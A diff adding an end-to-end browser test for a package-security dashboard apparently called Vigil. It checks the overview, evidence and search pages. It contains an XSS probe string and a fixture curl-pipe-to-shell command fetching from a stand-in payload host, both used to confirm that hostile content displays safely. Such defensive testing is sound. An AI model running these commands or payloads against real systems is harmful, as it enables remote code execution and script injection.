@@ -1,0 +1,86 @@
+/**
+ * The dashboard in a real headless Chromium (Debian `chromium`, driven by playwright-core): overview,
+ * navigation to a release's evidence, search, and a screenshot check. Skips (with a message) only when
+ * no Chromium binary is installed.
+ */
+import assert from 'node:assert/strict';
+import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { chromium } from 'playwright-core';
+import { startDashboard } from '../../src/server/index.js';
+import { SqliteStore } from '../../src/store/index.js';
+import { XSS, seed } from './seed.js';
+
+const CANDIDATES = [process.env.VIGIL_CHROMIUM, '/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'];
+const executablePath = CANDIDATES.find((p): p is string => p !== undefined && p !== '' && existsSync(p));
+const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
+
+/** Width and height from a PNG's IHDR chunk. */
+function pngSize(png: Buffer): { width: number; height: number } {
+  assert.deepEqual([...png.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'PNG signature');
+  assert.equal(png.subarray(12, 16).toString('latin1'), 'IHDR');
+  return { width: png.readUInt32BE(16), height: png.readUInt32BE(20) };
+}
+
+test('dashboard end to end in headless Chromium', { timeout: 90_000, skip: executablePath === undefined ? 'Chromium not installed (apt-get install chromium); dashboard e2e skipped' : false }, async () => {
+  const dir = mkdtempSync(join(tmpdir(), 'vigil-e2e-'));
+  const store = new SqliteStore(join(dir, 'e2e.db'));
+  await store.init();
+  await seed(store);
+  const dash = await startDashboard({ store, port: 0 });
+  const browser = await chromium.launch({ executablePath: executablePath ?? '', args: ARGS, timeout: 60_000 });
+  try {
+    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    const dialogs: string[] = [];
+    page.on('dialog', (d) => {
+      dialogs.push(d.message());
+      void d.dismiss();
+    });
+    const consoleErrors: string[] = [];
+    page.on('console', (m) => {
+      if (m.type() === 'error') consoleErrors.push(m.text());
+    });
+    await page.goto(`${dash.url}/`, { waitUntil: 'load' });
+    assert.equal(await page.title(), 'Overview · Vigil');
+    await page.getByRole('heading', { name: 'Watched projects' }).waitFor({ state: 'visible' });
+    assert.ok(await page.getByRole('link', { name: 'shop-frontend' }).isVisible());
+    assert.ok(await page.getByText('3 scanned releases').isVisible());
+    // Hostile text renders as text: visible, and nothing executed.
+    assert.ok((await page.locator('body').innerText()).includes('<script>alert("x")</script>'));
+    assert.equal(await page.locator('script').count(), 0);
+
+    const png = await page.screenshot({ fullPage: true });
+    const shot = join(dir, 'overview.png');
+    writeFileSync(shot, png);
+    if (process.env.VIGIL_E2E_SCREENSHOT !== undefined) writeFileSync(process.env.VIGIL_E2E_SCREENSHOT, png);
+    const size = pngSize(png);
+    assert.equal(size.width, 1280);
+    assert.ok(size.height >= 600 && size.height < 20_000, `height ${size.height}`);
+    assert.ok(png.byteLength > 20_000, `a rendered page, not a blank one (${png.byteLength} bytes)`);
+
+    // Follow the alert's evidence link to the release page.
+    await page.getByRole('link', { name: 'evidence' }).first().click();
+    await page.waitForURL(/\/release\/npm\/evil-pkg\/0\.0\.9$/);
+    await page.getByRole('heading', { name: /evil-pkg@0\.0\.9/ }).waitFor();
+    assert.ok(await page.getByText('npm/install-script-download').first().isVisible());
+    assert.ok(await page.locator('pre', { hasText: 'curl -s http://payload.example.invalid/x.sh | sh' }).isVisible());
+    assert.ok(await page.getByText('finding(s) are new in this release').isVisible());
+
+    // Search by package from the header form.
+    await page.getByRole('searchbox', { name: 'Search packages' }).fill('requests');
+    await page.getByRole('button', { name: 'Search' }).click();
+    await page.waitForURL(/\/releases\?q=requests$/);
+    assert.ok(await page.getByRole('link', { name: 'requests-helper@0.4.2' }).isVisible());
+    assert.equal(await page.getByRole('link', { name: 'evil-pkg@0.0.9' }).count(), 0);
+
+    assert.deepEqual(dialogs, [], `no script ran: ${XSS}`);
+    assert.deepEqual(consoleErrors, []);
+  } finally {
+    await browser.close();
+    await dash.close();
+    await store.close();
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
